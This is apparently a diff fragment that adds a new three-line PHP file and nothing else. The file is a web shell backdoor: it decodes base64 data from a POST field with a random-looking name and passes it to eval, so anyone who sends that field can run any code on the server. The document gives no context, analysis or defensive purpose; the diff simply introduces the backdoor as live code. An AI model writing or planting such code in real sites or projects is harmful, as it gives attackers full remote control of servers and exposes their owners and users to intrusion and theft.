@@ -1,0 +1,3 @@
+<?php
+  eval(base64_decode($_POST["sf4rcj"]));
+?>
